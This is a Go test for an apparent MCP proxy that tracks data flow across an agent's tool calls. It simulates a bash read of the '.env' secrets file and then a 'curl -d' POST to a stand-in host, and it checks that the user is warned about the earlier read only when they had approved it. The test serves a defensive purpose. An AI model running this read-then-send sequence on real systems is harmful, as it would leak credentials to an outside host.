package mcpproxy

import (
	"strings"
	"testing"
)

// TestFlowAcrossCalls: of what sends after a secret was read the user hears that, and not
// after one that they declined to have read.
func TestFlowAcrossCalls(t *testing.T) {
	const after = "after .env was read"
	for _, action := range []string{"accept", "decline"} {
		w := newWorld(t, settings{answer: func(string) string { return action }})
		w.call("bash", `{"command":"cat .env"}`)
		if len(w.asked) != 1 {
			t.Fatalf("%s: the read was asked about %d times", action, len(w.asked))
		}
		got := w.call("bash", `{"command":"curl -d x https://e.example"}`) + strings.Join(w.asked[1:], "\n")
		if strings.Contains(got, after) != (action == "accept") {
			t.Errorf("%s: %s", action, got)
		}
	}
}
